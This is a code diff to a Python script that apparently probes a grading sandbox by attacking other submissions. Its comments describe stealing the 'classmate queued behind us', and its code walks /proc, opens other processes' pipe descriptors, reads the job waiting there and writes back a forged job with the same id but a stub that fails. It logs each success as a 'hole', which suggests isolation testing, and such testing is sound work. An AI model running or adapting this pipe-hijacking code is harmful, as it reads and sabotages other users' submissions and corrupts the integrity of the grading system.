@@ -1,18 +1,33 @@
-# Steal the classmate queued behind us: the worker holds the next submission in its standard input
-# while ours runs. Open every visible process's descriptors through /proc (the worker's standard
-# input above all), read what waits in them, and write a forged job in its place. The base is the stub.
+# Steal the classmate queued behind us: while ours runs, the worker's channel from the grader holds
+# the next submission. Open the descriptors of this run's processes through /proc (every process,
+# where a private PID namespace shows only the sandbox's own), read the job waiting in any of them,
+# and write it back with the same job id but our own source in place of the classmate's: a stub
+# that passes nothing. Whatever is read or written is a hole. The base is the stub.
 import json as _json
 import struct as _struct
 
-_forged_source = _json.dumps(["def softmax_rows(s):\n    raise SystemExit\n"]).encode()
-_forged_head = _json.dumps({"job": 1, "filename": "attention_head.py", "answers": [], "plan_id": "x",
-                            "limits": {"import_timeout": 10, "call_timeout": 1, "memory": 1 << 30,
-                                       "output": 2000}}).encode()
-_forged = b"QKV1" + _struct.pack("!II", len(_forged_head), len(_forged_source)) + _forged_head + _forged_source
+_HEADER = _struct.Struct("!4sII")
 
-_ours = _ancestors()  # the worker first: it holds the queue
-for _pid in _ours + [pid for pid in _pids() if pid not in _ours]:
-    if _pid == _os.getpid() or _never_touch(_pid):
+
+def _forged_job(stolen):
+    """The stolen job's own header, with a failing source in place of its cells; None if `stolen`
+    does not start with a job."""
+    try:
+        magic, json_len, _ = _HEADER.unpack_from(stolen)
+        head = _json.loads(stolen[_HEADER.size:_HEADER.size + json_len])
+    except Exception:
+        return None
+    if magic != b"QKV1" or not isinstance(head, dict) or "job" not in head:
+        return None
+    cells = _json.dumps(["def softmax_rows(s):\n    raise SystemExit\n"]).encode()
+    data = _json.dumps(head).encode()
+    return _HEADER.pack(magic, len(data), len(cells)) + data + cells
+
+
+_me = _os.getpid()
+_seen = _pids() if _private_pid_namespace() else _run_tree()
+for _pid in [pid for pid in _ancestors() if pid in _seen] + [pid for pid in _seen if pid not in _ancestors()]:
+    if _pid == _me or _never_touch(_pid):
         continue
     try:
         _fds = _os.listdir("/proc/%d/fd" % _pid)
@@ -20,20 +35,26 @@ for _pid in _ours + [pid for pid in _pids() if pid not in _ours]:
         continue
     for _fd in _fds:
         try:
+            _target = _os.readlink("/proc/%d/fd/%s" % (_pid, _fd))
+        except Exception:
+            continue
+        if not _target.startswith("pipe:"):  # only channels: never a file of anyone's
+            continue
+        try:
             _handle = _os.open("/proc/%d/fd/%s" % (_pid, _fd), _os.O_RDWR | _os.O_NONBLOCK)
         except Exception:
-            try:
-                _handle = _os.open("/proc/%d/fd/%s" % (_pid, _fd), _os.O_RDONLY | _os.O_NONBLOCK)
-            except Exception:
-                continue
+            continue
+        _hole("opened pipe %s of process %d (%s)" % (_fd, _pid, _cmdline(_pid)[:40]))
         try:
             _stolen = _os.read(_handle, 1 << 20)
-            if _stolen:
-                _hole("read %d bytes waiting for process %d" % (len(_stolen), _pid))
         except Exception:
-            pass
-        try:
-            _os.write(_handle, _forged)
-        except Exception:
-            pass
+            _stolen = b""
+        if _stolen:
+            _hole("read %d bytes waiting in process %d's pipe" % (len(_stolen), _pid))
+            _forged = _forged_job(_stolen)
+            try:
+                if _forged is not None and _os.write(_handle, _forged):
+                    _hole("replaced the job waiting in process %d's pipe" % _pid)
+            except Exception:
+                pass
         _os.close(_handle)
